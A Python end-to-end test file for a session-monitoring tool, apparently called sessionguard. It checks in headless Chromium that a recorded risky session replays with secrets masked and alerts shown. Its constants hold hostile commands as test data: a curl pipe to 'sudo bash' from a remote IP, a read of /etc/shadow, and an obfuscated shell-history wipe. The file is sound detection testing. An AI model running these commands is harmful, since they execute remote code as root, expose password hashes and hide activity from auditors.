"""The replay page in a real browser: Debian's headless Chromium opens the page written by `sessionguard replay`
and plays it in real time (at 8x, a 20-second session takes under 3 s), driven over the DevTools protocol on a pipe
(`--remote-debugging-pipe`: no port, no extra package); what the player's terminal shows is read from the DOM, an
alert is clicked with a real mouse event, and a screenshot is checked for size and colour.

(`--dump-dom --virtual-time-budget` was tried first: the player draws on animation frames, which virtual time does
not run reliably, so the terminal sometimes lagged behind the end of playback.)

Chromium comes from `make browser` (a prerequisite of `make unit`, so of `make test` and CI). Without it this test
fails instead of skipping: a replay page that was never opened in a browser is not tested.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import struct
import subprocess
import time
import zlib
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sessionguard.cli import main

pytestmark = pytest.mark.e2e

EVENTS = Path(__file__).resolve().parents[2] / "events"
RISKY_SECRETS = ("Hunter2-Prod!", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY")
WINDOW = (1280, 900)
# The risky session's commands at their times in the recording (idle gaps shortened to 2 s).
MYSQL = "mysql -u admin -p[MASKED:mysql-password] -h orders-db.internal"  # 4.0 s
CURL = "curl -s https://198.51.100.23/i.sh | sudo bash"  # 6.2 s, SG-DLEX-001
SHADOW = "cat /etc/shadow | head -n 2"  # 10.2 s, SG-CRED-001
HISTORY = "h''istory -c && unset HISTFILE"  # 12.3 s, SG-HIST-001 and SG-HIST-002


def chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    pytest.fail("headless Chromium is missing: run `make browser` (make unit runs it)")


class Browser:
    """Headless Chromium driven over the DevTools protocol on fds 3 (commands in) and 4 (replies out), each
    message JSON ended by a NUL byte."""

    def __init__(self, profile: Path) -> None:
        commands_read, self._commands = os.pipe()
        self._replies, replies_write = os.pipe()

        def pipes_at_3_and_4() -> None:
            os.dup2(commands_read, 3)
            os.dup2(replies_write, 4)

        self.process = subprocess.Popen(
            [
                chromium(),
                "--headless",
                "--no-sandbox",  # CI runs as root, where Chromium's sandbox cannot start
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
                f"--user-data-dir={profile}",
                f"--window-size={WINDOW[0]},{WINDOW[1]}",
                "--remote-debugging-pipe",
                "about:blank",
            ],
            pass_fds=(3, 4),
            preexec_fn=pipes_at_3_and_4,  # noqa: PLW1509 - the DevTools pipe must sit at fds 3 and 4; no threads
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        os.close(commands_read)
        os.close(replies_write)
        self._sent = 0
        self._buffer = b""
        target = self.call("Target.createTarget", url="about:blank")["targetId"]
        self.session = self.call("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]

    def call(self, method: str, **params: Any) -> dict[str, Any]:
        self._sent += 1
        message: dict[str, Any] = {"id": self._sent, "method": method, "params": params}
        if method.partition(".")[0] not in ("Target", "Browser"):
            message["sessionId"] = self.session
        os.write(self._commands, json.dumps(message).encode() + b"\0")
        while True:
            while b"\0" not in self._buffer:
                chunk = os.read(self._replies, 1 << 16)
                assert chunk, "Chromium closed the DevTools pipe"
                self._buffer += chunk
            raw, self._buffer = self._buffer.split(b"\0", 1)
            reply = json.loads(raw)
            if reply.get("id") == self._sent:
                assert "error" not in reply, reply["error"]
                result: dict[str, Any] = reply["result"]
                return result

    def evaluate(self, expression: str) -> Any:
        return self.call("Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True)[
            "result"
        ].get("value")

    def open(self, url: str) -> None:
        self.call("Page.enable")
        # The window's size less Chromium's own chrome would be the viewport: set the viewport itself.
        self.call(
            "Emulation.setDeviceMetricsOverride", width=WINDOW[0], height=WINDOW[1], deviceScaleFactor=1, mobile=False
        )
        self.call("Page.navigate", url=url)
        self.wait_for_state(lambda state: state != "", "the page to start")

    def state(self) -> str:
        return str(self.evaluate("document.getElementById('sg-state')?.textContent ?? ''"))

    def wait_for_state(self, accept: Any, what: str, timeout: float = 30) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            state = self.state()
            if accept(state):
                return state
            time.sleep(0.1)
        pytest.fail(f"waited {timeout} s for {what}; the page says {self.state()!r}")

    def terminal_lines(self) -> list[str]:
        lines = self.evaluate("Array.from(document.querySelectorAll('.ap-term-text .ap-line'), l => l.textContent)")
        assert lines, "the player drew no terminal"
        return [str(line).rstrip() for line in lines]

    def wait_for_terminal(self, accept: Any, timeout: float = 10) -> list[str]:
        """The terminal's non-blank lines once `accept` takes them: the player redraws on animation frames."""
        deadline = time.monotonic() + timeout
        while True:
            shown = [line for line in self.terminal_lines() if line]
            if accept(shown) or time.monotonic() > deadline:
                return shown
            time.sleep(0.1)

    def click(self, selector: str) -> None:
        box = self.evaluate(
            f"(() => {{ const e = document.querySelector({json.dumps(selector)});"
            " e.scrollIntoView({block: 'center'});"
            " const r = e.getBoundingClientRect();"
            " return [r.x + r.width / 2, r.y + r.height / 2]; })()"
        )
        for kind in ("mousePressed", "mouseReleased"):
            self.call("Input.dispatchMouseEvent", type=kind, x=box[0], y=box[1], button="left", clickCount=1)

    def screenshot(self) -> bytes:
        return base64.b64decode(self.call("Page.captureScreenshot", format="png")["data"])

    def close(self) -> None:
        try:
            self.call("Browser.close")
            self.process.wait(timeout=10)
        finally:
            if self.process.poll() is None:
                self.process.kill()
            os.close(self._commands)
            os.close(self._replies)


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("replay") / "session.html"
    assert main(["replay", str(EVENTS / "session-risky.jsonl"), "-o", str(out)]) == 0
    return out


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    chrome = Browser(tmp_path / "profile")  # a fresh profile for every test
    try:
        yield chrome
    finally:
        chrome.close()


def test_the_page_plays_the_masked_session_to_its_end(page: Path, browser: Browser) -> None:
    browser.open(f"{page.as_uri()}#play&speed=8")
    browser.wait_for_state(lambda state: state == "ended", "the end of playback")

    lines = browser.wait_for_terminal(lambda lines: lines[-1] == "exit" and len(lines) > 20)
    shown = "\n".join(lines)
    for command in (MYSQL, CURL, SHADOW, HISTORY):
        assert f"$ {command}" in shown
    for rule in ("SG-DLEX-001", "SG-CRED-001", "SG-HIST-001", "SG-HIST-002"):
        assert any(line.startswith(" ALERT  " + rule) for line in lines), rule
    assert lines[lines.index(f"$ {CURL}") + 1].startswith(" ALERT  SG-DLEX-001 high")
    everything = browser.evaluate("document.documentElement.outerHTML")
    assert not any(secret in everything for secret in RISKY_SECRETS)
    # The seek bar carries one marker per alert.
    assert browser.evaluate("document.querySelectorAll('.ap-marker-container').length") == 4


def test_opening_at_a_time_shows_the_session_up_to_then(page: Path, browser: Browser) -> None:
    browser.open(f"{page.as_uri()}#t=5")
    browser.wait_for_state(lambda state: state == "paused", "the seek")

    shown = "\n".join(browser.wait_for_terminal(lambda lines: MYSQL in "\n".join(lines)))
    assert MYSQL in shown
    assert CURL not in shown


def test_clicking_an_alert_jumps_to_its_line(page: Path, browser: Browser) -> None:
    browser.open(f"{page.as_uri()}#play&speed=8")
    browser.wait_for_state(lambda state: state == "ended", "the end of playback")

    browser.click(".sg-alert[data-index='1']")
    browser.wait_for_state(lambda state: state == "at alert 2", "the jump")

    shown = browser.wait_for_terminal(lambda lines: "SG-CRED-001" in lines[-1])
    assert shown[-1].startswith(" ALERT  SG-CRED-001")
    assert HISTORY not in "\n".join(shown)
    assert browser.evaluate("document.querySelector('.sg-current')?.dataset.index") == "1"


def test_a_screenshot_of_the_played_page_shows_a_terminal(page: Path, browser: Browser) -> None:
    browser.open(f"{page.as_uri()}#play&speed=8")
    browser.wait_for_state(lambda state: state == "ended", "the end of playback")

    width, height, pixels = read_png(browser.screenshot())
    assert (width, height) == WINDOW
    colours = Counter(pixels)
    # A page, not a blank: the light page background, the player's dark terminal, and many glyph colours.
    assert len(colours) > 50
    dark = sum(n for (r, g, b), n in colours.items() if r + g + b < 150)
    assert dark > width * height // 10
    # The alert badge's red background (SGR 41) is on screen.
    assert any(r > 150 and g < 80 and b < 120 for (r, g, b) in colours)


def read_png(data: bytes) -> tuple[int, int, list[tuple[int, int, int]]]:
    """A Chromium screenshot (8-bit RGB or RGBA, not interlaced) as RGB pixels: enough PNG for this test."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    position, chunks, header = 8, b"", b""
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kind = data[position + 4 : position + 8]
        body = data[position + 8 : position + 8 + length]
        if kind == b"IHDR":
            header = body
        elif kind == b"IDAT":
            chunks += body
        position += 12 + length
    width, height, depth, colour_type, _, _, interlace = struct.unpack(">IIBBBBB", header)
    assert (depth, interlace) == (8, 0)
    assert colour_type in (2, 6)
    channels = 3 if colour_type == 2 else 4
    raw = zlib.decompress(chunks)
    stride = width * channels
    previous = bytearray(stride)
    pixels: list[tuple[int, int, int]] = []
    for row in range(height):
        start = row * (stride + 1)
        kind, line = raw[start], bytearray(raw[start + 1 : start + 1 + stride])
        for i in range(stride):
            left = line[i - channels] if i >= channels else 0
            up = previous[i]
            corner = previous[i - channels] if i >= channels else 0
            if kind == 1:
                line[i] = (line[i] + left) & 0xFF
            elif kind == 2:
                line[i] = (line[i] + up) & 0xFF
            elif kind == 3:
                line[i] = (line[i] + (left + up) // 2) & 0xFF
            elif kind == 4:
                estimate = left + up - corner
                pa, pb, pc = abs(estimate - left), abs(estimate - up), abs(estimate - corner)
                line[i] = (line[i] + (left if pa <= pb and pa <= pc else up if pb <= pc else corner)) & 0xFF
        pixels += [(line[i], line[i + 1], line[i + 2]) for i in range(0, stride, channels)]
        previous = line
    return width, height, pixels
